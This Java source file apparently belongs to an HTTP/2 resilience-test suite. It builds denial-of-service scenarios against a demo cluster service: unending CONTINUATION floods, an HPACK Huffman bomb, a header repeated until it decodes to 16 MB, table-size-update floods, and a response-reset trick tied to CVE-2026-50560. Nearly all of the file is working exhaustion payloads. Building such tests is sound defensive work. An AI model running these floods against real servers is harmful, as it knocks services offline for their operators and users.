package io.beringia.scenarios.attack;

import io.beringia.scenarios.attack.Attack.Siege;
import io.beringia.scenarios.connect.Field;
import io.beringia.scenarios.connect.Frame;
import io.beringia.scenarios.connect.Hpack;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;

/** Fields that never end, that grow when they are decoded, or that nobody may answer. */
final class FieldAttacks {
    private static final byte[] NOTHING = new byte[0];
    private static final int FRAGMENT_BYTES = 16_000;
    private static final int MAX_HEADER_LIST_SIZE = 6;
    private static final Duration TICK = Duration.ofMillis(20);
    /** Five bits, the shortest code of HPACK, for each "0". */
    private static final byte HUFFMAN_ZEROS = 0;

    private FieldAttacks() {}

    static List<Attack> all() {
        return List.of(
                Siege.flood("A3", "CONTINUATION without end", who -> unfinished(who, new byte[1_024])),
                Siege.flood("A3", "CONTINUATION of no bytes", who -> unfinished(who, NOTHING)),
                Siege.flood("A3", "CONTINUATION of one byte", who -> unfinished(who, new byte[1])),
                Siege.flood("A3", "Huffman bomb", who -> requests(who, huffman())),
                Siege.flood("A3", "other frames among CONTINUATION", who -> {
                    Line line = begun(who);
                    who.flood(line, new Frame(Frame.PING, 0, 0, Line.ping(1)).bytes());
                }),
                Siege.flood("A5", "a table that is filled anew each time", who -> requests(who, filled())),
                Siege.flood("A5", "a field said 4,000 times", who -> requests(who, repeated())),
                Siege.flood("A5", "size updates", who -> requests(who, resized())),
                Siege.paced("A7", "answers that may have no fields", FieldAttacks::mute));
    }

    /** HEADERS that are not over. */
    private static Line begun(Attacker who) throws IOException, InterruptedException {
        Line line = who.greet();
        line.send(new Frame(Frame.HEADERS, 0, 1, line.connect(1).payload()));
        return line;
    }

    private static void unfinished(Attacker who, byte[] fragment) throws IOException, InterruptedException {
        Line line = begun(who);
        byte[] one = new Frame(Frame.CONTINUATION, 0, 1, block(fragment)).bytes();
        ByteArrayOutputStream batch = new ByteArrayOutputStream();
        while (batch.size() < FRAGMENT_BYTES) {
            batch.writeBytes(one);
        }
        who.flood(line, batch.toByteArray());
    }

    /** A whole field where there is room for one. */
    private static byte[] block(byte[] fragment) {
        return fragment.length < 16
                ? fragment
                : Hpack.encode(List.of(new Field("baggage", "b".repeat(fragment.length - 16))));
    }

    /** The same block on one new stream after the other, cut into frames where it is long. */
    private static void requests(Attacker who, byte[] block) throws IOException, InterruptedException {
        Line line = who.greet();
        who.goesTooFar();
        for (int stream = 1; who.goesOn(); stream += 2) {
            line.send(framed(stream, block));
        }
    }

    private static byte[] framed(int stream, byte[] block) {
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        for (int at = 0; at < block.length; at += FRAGMENT_BYTES) {
            int end = Math.min(block.length, at + FRAGMENT_BYTES);
            frames.writeBytes(new Frame(
                            at == 0 ? Frame.HEADERS : Frame.CONTINUATION,
                            end == block.length ? Frame.END_HEADERS : 0,
                            stream,
                            Arrays.copyOfRange(block, at, end))
                    .bytes());
        }
        return frames.toByteArray();
    }

    private static byte[] connect(byte[]... more) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(Hpack.encode(
                List.of(new Field(":method", "CONNECT"), new Field(":authority", "nobody.demo.svc.cluster.local:80"))));
        for (byte[] one : more) {
            block.writeBytes(one);
        }
        return block.toByteArray();
    }

    /** A value of 60,000 bytes that become 96,000. */
    private static byte[] huffman() {
        byte[] zeros = new byte[60_000];
        Arrays.fill(zeros, HUFFMAN_ZEROS);
        ByteArrayOutputStream field = new ByteArrayOutputStream();
        field.write(0x00);
        field.write(1);
        field.write('b');
        integer(field, 0x80, 7, zeros.length);
        field.writeBytes(zeros);
        return connect(field.toByteArray());
    }

    /** Fields that are kept in the table, each of which drives out the one before. */
    private static byte[] filled() {
        ByteArrayOutputStream fields = new ByteArrayOutputStream();
        for (int i = 0; i < 3; i++) {
            kept(fields, "bag" + i, 4_000);
        }
        return connect(fields.toByteArray());
    }

    private static void kept(ByteArrayOutputStream fields, String name, int valueBytes) {
        fields.write(0x40);
        fields.write(name.length());
        fields.writeBytes(name.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        integer(fields, 0, 7, valueBytes);
        fields.writeBytes(new byte[valueBytes]);
    }

    /** One field of 4,000 bytes, and 4,000 bytes that name it again: 16 MB when decoded. */
    private static byte[] repeated() {
        ByteArrayOutputStream fields = new ByteArrayOutputStream();
        fields.write(0x40);
        fields.write(3);
        fields.writeBytes(new byte[] {'b', 'a', 'g'});
        integer(fields, 0, 7, 4_000);
        byte[] value = new byte[4_000];
        Arrays.fill(value, (byte) 'v');
        fields.writeBytes(value);
        byte[] again = new byte[4_000];
        Arrays.fill(again, (byte) (0x80 | 62));
        fields.writeBytes(again);
        return connect(fields.toByteArray());
    }

    /** Five thousand changes of the table's size before the first field. */
    private static byte[] resized() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (int i = 0; i < 2_500; i++) {
            block.write(0x20);
            integer(block, 0x20, 5, 4_096);
        }
        block.writeBytes(connect());
        return block.toByteArray();
    }

    private static void integer(ByteArrayOutputStream out, int head, int bits, int value) {
        int max = (1 << bits) - 1;
        if (value < max) {
            out.write(head | value);
            return;
        }
        out.write(head | max);
        int left = value - max;
        while (left >= 0x80) {
            out.write(left & 0x7f | 0x80);
            left >>= 7;
        }
        out.write(left);
    }

    /** CVE-2026-50560: a server that resets each answer that is too long resets them all. */
    private static void mute(Attacker who) throws IOException, InterruptedException {
        Line line = who.greet(ByteBuffer.allocate(6)
                .putShort((short) MAX_HEADER_LIST_SIZE)
                .putInt(1)
                .array());
        for (int stream = 1; who.goesOn(); stream += 2) {
            line.send(Line.connect(stream, "nobody.demo.svc.cluster.local:80"));
            who.pause(TICK.multipliedBy(5));
        }
    }
}
